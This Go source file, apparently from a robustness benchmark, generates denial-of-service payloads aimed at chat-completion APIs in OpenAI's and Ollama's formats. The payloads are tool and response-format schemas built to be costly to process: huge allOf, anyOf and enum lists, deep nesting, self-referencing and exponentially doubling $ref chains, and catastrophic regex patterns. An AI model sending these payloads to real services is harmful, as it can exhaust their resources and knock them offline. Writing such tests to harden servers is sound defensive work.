package hostile

import (
	"fmt"
	"strings"

	"toolnorm/bench/text"
)

// member is an attack by a member of a chat request in OpenAI's form.
type member struct{ name, text string }

// with returns an attack by a chat request to a model. The request contains m.text, for example
// hostile tools. The parameter message is the user's message, escaped as in JSON: a script for the
// fake server, or a sentence in which the demo model finds a tool's name.
func (m member) with(model, message string) attack {
	return one(m.name+", "+model, "/v1/chat/completions", fmt.Sprintf(
		`{"model":%q,"messages":[{"role":"user","content":"%s"}],%s}`, model, message, m.text))
}

// tool returns a part of the JSON of a chat request, "tools":[…]. It offers one tool, whose
// parameters have the given JSON Schema.
func tool(schema string) string {
	return `"tools":[{"type":"function","function":{"name":"` + text.Tool + `","parameters":` +
		schema + `}}]`
}

// schemas returns attacks by the schemas of tools and of response formats. Each is cheap to send
// and meant to be expensive to read: wide, deep, referring to itself, or with patterns that are
// large when compiled.
func schemas() []member {
	const someTool = `{"type":"function","function":{"name":"t%d","description":"Tool %d.","parameters":{"type":"object","properties":{"a":{"type":"string"}}}}}`
	return []member{
		{"schema: 300,000 empty allOf", tool(`{"allOf":[` + many(300_000, `{}`) +
			`],"properties":{"a":{"type":"string"}}}`)},
		{"schema: allOf of 900 objects", `"tool_choice":"required",` + tool(
			`{"type":"object","properties":{"x":{"allOf":[`+
				many(900,
					`{"type":"object","properties":{"a%d":{"type":"string"}},"required":["a%d"]}`)+
				`]}},"required":["x"]}`)},
		{"schema: 100,000 anyOf of one property", tool(`{"properties":{"a":{"anyOf":[` +
			many(100_000, `{"type":"string"}`) + `]}}}`)},
		{"schema: 100,000 oneOf", tool(`{"oneOf":[` + many(100_000, `{"required":["a%d"]}`) +
			`]}`)},
		{"schema: 300 levels of allOf", tool(strings.Repeat(`{"allOf":[{},`, 300) + `{}` +
			strings.Repeat(`]}`, 300))},
		{"schema: $ref that doubles 40 times", tool(doubling(40))},
		{"schema: $ref to itself", tool(
			`{"$ref":"#","allOf":[{"$ref":"#"},{"$ref":"#"}],"properties":{"a":{"$ref":"#"}}}`)},
		{"schema: a long pattern", tool(`{"properties":{"a":{"type":"string","pattern":"` +
			strings.Repeat("(a|b)?", 160_000) + `"}}}`)},
		{"schema: 1,000 patterns",
			tool(`{"properties":{` +
				many(1000, `"a%d":{"type":"string","pattern":"(\\p{L}|\\p{N}){1,900}"}`) + `}}`)},
		{"schema: a catastrophic pattern", tool(
			`{"properties":{"a":{"type":"string","pattern":"^(([a-z])+.)+[A-Z]([a-z])+$"}},"required":["a"]}`)},
		{"schema: an enum of 1,000,000", tool(`{"properties":{"a":{"enum":[` +
			many(1_000_000, `%d`) + `]}}}`)},
		{"schema: 200,000 properties",
			tool(`{"properties":{` + many(200_000, `"a%d":{"type":"string"}`) + `}}`)},
		{"schema: 200,000 required", tool(`{"required":[` + many(200_000, `"a%d"`) + `]}`)},
		{"schema: 100,000 definitions",
			tool(`{"$defs":{` + many(100_000, `"a%d":{"type":"string"}`) +
				`},"properties":{"a":{"$ref":"#/$defs/a1"}}}`)},
		{"schema: one key 300,000 times",
			tool(`{"properties":{` + many(300_000, `"a":{"type":"string"}`) + `}}`)},
		{"schema: bounds beyond all numbers", tool(
			`{"properties":{"a":{"type":"string","minLength":1e12,"maxLength":1e400},"b":{"type":"array","minItems":1e12}},"required":["a","b"]}`)},
		{"schema: a description of 10 MB", tool(`{"description":"` + strings.Repeat("x ", 5<<20) +
			`"}`)},
		{"10,000 tools", `"tools":[` + many(10_000, someTool) + `]`},
		{"10,000 tools of one name", `"tools":[` +
			many(10_000, strings.ReplaceAll(someTool, "t%d", text.Tool)) + `]`},
		{"a wanted reply with 300,000 empty allOf",
			`"response_format":{"type":"json_schema","json_schema":{"name":"r","schema":{"allOf":[` + many(300_000, `{}`) + `]}}}`},
	}
}

// ollamas returns attacks by schemas in requests to Ollama's own API.
func ollamas() []attack {
	return []attack{
		one("Ollama's API: 300,000 empty allOf", "/api/chat",
			`{"model":"demo/hermes","messages":[{"role":"user","content":"Use write_file with \"x\"."}],`+tool(`{"allOf":[`+many(300_000, `{}`)+`]}`)+`}`),
		one("Ollama's API: a format of 1,000,000 values", "/api/chat",
			`{"model":"demo/hermes","messages":[{"role":"user","content":"Hi"}],"format":{"enum":[`+
				many(1_000_000, `%d`)+`]}}`),
	}
}

// doubling returns a schema with n definitions, each of which refers to the next one twice.
// Expanded, 40 definitions are 2^40 objects.
func doubling(n int) string {
	var b strings.Builder
	b.WriteString(`{"$ref":"#/$defs/d0","$defs":{`)
	for i := range n {
		fmt.Fprintf(&b,
			`"d%d":{"properties":{"a":{"$ref":"#/$defs/d%d"},"b":{"$ref":"#/$defs/d%d"}}},`, i, i+1,
			i+1)
	}
	fmt.Fprintf(&b, `"d%d":{}}}`, n)
	return b.String()
}
